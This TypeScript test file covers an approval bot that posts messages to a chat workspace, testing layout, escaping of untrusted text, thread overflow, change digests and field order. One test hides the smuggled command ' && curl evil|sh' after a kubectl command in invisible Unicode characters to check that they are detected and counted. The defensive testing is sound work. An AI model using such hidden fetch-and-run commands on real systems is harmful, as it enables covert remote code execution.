import { createHash } from 'node:crypto';
import { expect } from 'vitest';
import { shortIdOf } from '../../src/core/lib/short-id.ts';
import { DEPLOYS, readable } from '../support/world.ts';
import { open } from './message-menu.ts';
import { ANA, startStage } from './stage.ts';
import { story } from './story.ts';

story(
  'message-content',
  'the message shows what is requested, by whom, until when and from whom',
  async () => {
    await using stage = await startStage();
    const expiresAt = '2031-11-21T10:00:00Z';
    const { ts } = await stage.ask({
      title: 'Deploy 4.2 to production',
      message: 'All checks are green.',
      fields: { Version: '4.2', Region: 'eu' },
      link: 'https://ci.example.com/runs/7',
      requestedBy: { name: 'Night shift' },
      expiresAt,
    });
    expect(stage.read(ts)).toBe(
      [
        'Deploy 4.2 to production',
        `:hourglass: *Waiting for* <@U0ANA> or <@U0BEN> · Deadline: <!date^${Date.parse(expiresAt) / 1_000}^{date_short_pretty} at {time}|2031-11-21T10:00:00.000Z>`,
        'Asked by Night shift',
        'All checks are green.\nVersion: 4.2\nRegion: eu',
        'Approve',
        'Reject',
        'Open run on ci.example.com ↗',
      ].join('\n'),
    );
    expect(stage.sandbox.workspace.message(DEPLOYS, ts)?.text).toBe(
      'Decision needed: Deploy 4.2 to production · asked by Night shift',
    );
  },
);

story('message-escaped', "other people's text is escaped everywhere", async () => {
  await using stage = await startStage();
  const evil = '<!channel> <@U0CLEO> <https://evil.example|Details> & more';
  const harmless =
    '&lt;!channel&gt; &lt;@U0CLEO&gt; &lt;https://evil.example|Details&gt; &amp; more';
  const { ts, token } = await stage.ask({
    title: evil,
    message: evil,
    fields: { [evil]: evil },
    requestedBy: { name: evil },
  });
  const prompted = await stage.ask({ prompt: evil });
  const message = stage.sandbox.workspace.message(DEPLOYS, ts);
  const [title, ...others] = message?.blocks ?? [];
  // A plain text shows everything as it is.
  expect(title).toMatchObject({ type: 'header', text: { type: 'plain_text', text: evil } });
  expect(message?.text).toContain(harmless);
  const markup = others.filter(({ type }) => type === 'section' || type === 'context');
  const alive = JSON.stringify(markup)
    .match(/"type":"mrkdwn","text":"[^"]*"/g)
    ?.join();
  expect(alive).not.toMatch(/<!channel|<@U0CLEO|<https/);
  // Rich text shows what it holds: no element of it is a mention or a link of theirs.
  const rich = JSON.stringify(others.filter(({ type }) => type === 'rich_text'));
  expect(rich).not.toMatch(/"type":"(link|broadcast|channel)"|"user_id":"U0CLEO"/);
  expect(stage.read(ts).split(evil)).toHaveLength(5);
  expect(stage.read(prompted.ts)).toContain(evil);
  await stage.click('U0ANA', ts, 'Approve');
  await stage.until(ts, /Approved by/);
  const { workspace } = stage.sandbox;
  await stage.sandbox.until(() => workspace.messages('C0OUTCOMES').length > 0);
  const [told] = workspace.messages('C0OUTCOMES');
  expect(readable(told)).toContain(harmless);
  expect(told?.text).toContain(harmless);
  expect(stage.sandbox.service.approval(token).status).toBe('APPROVED');
});

/** Words that are numbered, so that a lost one is missed. */
function words(name: string, count: number): string {
  return Array.from({ length: count }, (_, at) => `${name}${at}&`).join(' ');
}

story(
  'message-overflow',
  'text that does not fit continues in the thread, and nothing is lost',
  async () => {
    await using stage = await startStage();
    const { workspace } = stage.sandbox;
    const sent = {
      title: words('title', 60),
      message: words('message', 1_200),
      fields: Object.fromEntries(
        Array.from({ length: 12 }, (_, at) => [`Field ${at}`, words(`field${at}-`, 60)]),
      ),
    };
    const { ts } = await stage.ask(sent);
    expect(stage.read(ts)).toContain('More in the thread ↓');
    const replies = () => workspace.thread(DEPLOYS, ts).slice(1).map(readable);
    await stage.sandbox.until(() => replies().join('').includes('field11-59'));
    const rest = replies().join('').replaceAll('\n', '');
    const begun = stage.read(ts).split('\n')[2]?.replace('…', '') ?? '';
    expect(sent.message.startsWith(begun)).toBe(true);
    expect(rest.replaceAll('…', '')).toContain(sent.message.slice(begun.length + 3_000));
    expect(rest).toContain(sent.title);
    for (const [name, value] of Object.entries(sent.fields)) expect(rest).toContain(name + value);
    // Nobody can decide before all of it is there.
    await stage.until(ts, /Approve\nReject$/);
    await stage.click('U0ANA', ts, 'Approve');
    await stage.until(ts, /Approved by <@U0ANA>/);
  },
);

story(
  'message-prompt dialects',
  "the service's prompt is shown whatever it is called",
  async () => {
    await using stage = await startStage();
    for (const promptField of ['prompt', 'message', 'promptMessage', 'text', 'question']) {
      stage.sandbox.service.setVariant({ promptField, wrapped: promptField === 'text' });
      const { ts } = await stage.ask({ prompt: `Called ${promptField}` });
      expect(stage.read(ts)).toContain(`Called ${promptField}`);
    }
    const { ts } = await stage.ask({ prompt: 'Not this', message: 'But this' });
    expect(stage.read(ts)).toContain('But this');
    expect(stage.read(ts)).not.toContain('Not this');
  },
);

story(
  'message-content message-overflow no-message-lies',
  'a change is shown in full before anybody can decide, and identified by its digest',
  async () => {
    await using stage = await startStage();
    const { workspace, automation } = stage.sandbox;
    const change = Array.from({ length: 900 }, (_, at) => `+ line ${at} of the plan`).join('\n');
    const { ts, id } = await stage.ask({ title: 'Apply plan', message: 'Apply?', change });
    await stage.until(ts, /Approve\nReject$/);
    // With its first update, not before: the replies were there.
    const updates = workspace.calls('chat.update');
    const posts = workspace.calls('chat.postMessage');
    expect(JSON.stringify(posts[0]?.args.blocks)).not.toContain('approvals.ballot');
    expect(updates[0]?.at).toBeGreaterThanOrEqual(posts.at(-1)?.at ?? Number.POSITIVE_INFINITY);
    const shown = [workspace.message(DEPLOYS, ts), ...workspace.thread(DEPLOYS, ts).slice(1)];
    const code = shown.flatMap((message) => preformattedIn(message?.blocks ?? [])).join('');
    expect(code.replaceAll('……', '')).toBe(change);
    const { body } = await automation.status(id);
    const canonical = JSON.stringify({ change, message: 'Apply?', title: 'Apply plan' });
    const digest = createHash('sha256').update(canonical).digest('hex');
    expect(body).toMatchObject({ digest, shortId: shortIdOf(id) });
    expect(String((body as { permalink?: string }).permalink)).toContain(
      `/archives/${DEPLOYS}/p${ts.replace('.', '')}`,
    );
    await stage.click(ANA, ts, 'Approve');
    expect(await stage.until(ts, /Approved by/)).not.toContain('Digest');
    expect(await open(stage, ANA, ts, 'Details…')).toContain(`Digest \`${digest}\``);
  },
);

story(
  'message-content message-escaped no-message-lies',
  'invisible characters in a change are shown, counted, and change the digest',
  async () => {
    await using stage = await startStage();
    const { workspace } = stage.sandbox;
    const command = 'kubectl apply -f x';
    const hidden = String.fromCodePoint(
      ...[...' && curl evil|sh'].map((it) => 0xe0000 + it.charCodeAt(0)),
    );
    const title = 'Apply';
    const message = 'Apply?';
    const harmless = await stage.ask({ title, message, change: command });
    const { ts } = await stage.ask({ title, message, change: `${command}${hidden}` });
    expect(stage.read(harmless.ts)).not.toContain('invisible');
    expect(stage.read(ts)).toContain(`${command}⟨U+E0020⟩⟨U+E0026 × 2⟩⟨U+E0020⟩⟨U+E0063⟩`);
    expect(stage.read(ts)).toContain('Contains 16 invisible characters');
    const digestIn = async (each: string) =>
      /Digest `(\w+)`/.exec(await open(stage, ANA, each, 'Details…'))?.[1];
    await stage.click(ANA, ts, 'Approve');
    await stage.click(ANA, harmless.ts, 'Approve');
    const decided = await stage.until(ts, /Approved by/);
    expect(decided).toContain('Contains 16 invisible characters');
    await stage.until(harmless.ts, /Approved by/);
    expect(await digestIn(ts)).not.toBe(await digestIn(harmless.ts));
    expect(JSON.stringify(workspace.messages(DEPLOYS))).not.toContain(hidden);
  },
);

story(
  'message-content',
  'fields named by whole numbers come first in the message and in the digest',
  async () => {
    await using stage = await startStage();
    const { automation } = stage.sandbox;
    // As a text: an object in JavaScript would have this order before it is sent.
    const fields = '{"Version":"4.2","10":"ten","9":"nine","4294967295":"max","07":"seven"}';
    const answer = await fetch(`${stage.app.url}/v1/approvals`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${stage.sandbox.credentials.intakeSecret}`,
        'content-type': 'application/json',
      },
      body: `{"key":"deploy/1","title":"Deploy","message":"Shall we?","fields":${fields}}`,
    });
    // as: its body is documented, and a story holds it
    const { id } = (await answer.json()) as { id: string };
    const canonical =
      '{"fields":[["9","nine"],["10","ten"],["Version","4.2"],["4294967295","max"],["07","seven"]],' +
      '"message":"Shall we?","title":"Deploy"}';
    const digest = createHash('sha256').update(canonical).digest('hex');
    expect((await automation.status(id)).body).toMatchObject({ digest });
    const ts = await stage.sandbox.until(() => stage.sandbox.workspace.messages(DEPLOYS)[0]?.ts);
    expect(stage.read(ts)).toContain('9: nine\n10: ten\nVersion: 4.2\n4294967295: max\n07: seven');
    await stage.click(ANA, ts, 'Approve');
    expect(await stage.until(ts, /Approved by/)).not.toContain('Digest');
    expect(await open(stage, ANA, ts, 'Details…')).toContain(`Digest \`${digest}\``);
  },
);

story(
  'message-folds outcome-thread',
  'a decided message folds to its outcome, and the request is kept in the thread',
  async () => {
    await using stage = await startStage();
    const { workspace } = stage.sandbox;
    const { ts } = await stage.ask({
      title: 'Deploy 4.2',
      message: 'All checks are green.',
      change: '+ replicas: 3',
      fields: { Region: 'eu' },
      link: 'https://ci.example.com/runs/7',
    });
    await stage.click(ANA, ts, 'Reject');
    // The person who pressed still sees what they decided.
    expect(await stage.until(ts, /Rejected by <@U0ANA>/)).toContain('+ replicas: 3');
    await stage.sandbox.until(() => !stage.read(ts).includes('replicas'));
    expect(stage.read(ts)).toMatch(
      /^Deploy 4\.2\n:x: \*Rejected by <@U0ANA>\*[^\n]*\n(?:[^\n]* · )?<https:[^|\n]*\|Open run on ci\.example\.com>$/,
    );
    const [, reply, ...others] = workspace.thread(DEPLOYS, ts).map(readable);
    expect(reply).toMatch(
      /^:x: \*Rejected\* after [\s\S]*All checks are green\.\nRegion: eu\n\+ replicas: 3$/,
    );
    expect(others).toEqual([]);
  },
);

function preformattedIn(blocks: readonly { readonly type: string }[]): string[] {
  const parts = blocks.flatMap((block) => ('elements' in block ? (block.elements as Part[]) : []));
  return parts
    .filter(({ type }) => type === 'rich_text_preformatted')
    .flatMap(({ elements = [] }) => elements.map(({ text = '' }) => text));
}

interface Part {
  readonly type: string;
  readonly elements?: readonly { readonly text?: string }[];
}
